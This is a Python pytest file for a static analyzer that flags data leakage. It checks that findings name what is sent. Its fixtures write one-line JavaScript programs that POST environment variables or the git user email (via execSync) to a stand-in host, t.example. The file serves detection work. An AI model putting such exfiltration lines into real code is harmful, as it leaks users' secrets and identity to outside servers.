"""Does the message of a finding say in words what was found?"""

from __future__ import annotations

from pathlib import Path

import pytest

from analyzer import scan


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ("process.env.ACME", "the environment variable ACME is sent in the body of fetch to https://t.example/v1"),
        ("process.env[process.argv[2]]", "the environment variable process.env[…] is sent in the body of fetch to https://t.example/v1"),
        (
            'require("child_process").execSync("git config user.email")',
            "what git tells (execSync) is sent in the body of fetch to https://t.example/v1",
        ),
    ],
)
def test_a_message_names_the_fact(tmp_path: Path, value: str, message: str) -> None:
    target = tmp_path / "program.js"
    target.write_text(f'fetch("https://t.example/v1", {{method: "POST", body: {value}}});', "utf-8")
    assert message in [finding["message"] for finding in scan(target).to_dict()["findings"]]
